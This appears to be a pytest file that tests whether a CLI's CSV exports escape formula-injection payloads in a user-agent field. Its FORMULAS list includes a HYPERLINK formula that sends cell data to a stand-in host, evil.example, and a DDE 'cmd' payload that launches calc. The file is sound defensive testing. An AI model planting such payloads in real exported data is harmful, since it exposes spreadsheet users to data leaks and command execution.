"""CSV that is opened in a spreadsheet: nothing that a client chose is run there."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest

from household.v1.history_service_pb2 import SessionRecord

if TYPE_CHECKING:
    from tests.ctl.conftest import Cli
    from tests.ctl.fake_daemon import FakeDaemon

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "-inf",
    "=",
]
TEXTS = ["Mozilla/5.0 (X11; Linux)", "-12.5", "+3", "1e-05", "-1E+3", "'=1", "a=b", " =1", "192.0.2.7", ""]

COMMANDS = [
    ("sessions", "list", "-o", "csv"),
    ("history", "list", "-o", "csv"),
    ("history", "export", "--format", "csv"),
]


def agents(out: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(out)))
    (column,) = [name for name in rows[0] if name.endswith("user_agent")]
    return [row[column] for row in rows]


def given(daemon: FakeDaemon, text: str) -> None:
    """Have all sessions, live and ended, say that this is their user agent."""
    for session in daemon.sessions:
        session.user_agent = text
    daemon.ended = [SessionRecord(session=session) for session in daemon.sessions]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(cli: Cli, daemon: FakeDaemon, command: tuple[str, ...], text: str) -> None:
    given(daemon, text)
    shown = agents(cli(*command).out)
    assert shown
    assert all(cell.startswith(f"'{text[0]}" if text[0].isprintable() else ("'\\",)) for cell in shown)


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("text", TEXTS)
def test_everything_else_stays_as_it_is(cli: Cli, daemon: FakeDaemon, command: tuple[str, ...], text: str) -> None:
    given(daemon, text)
    assert set(agents(cli(*command).out)) == {text}
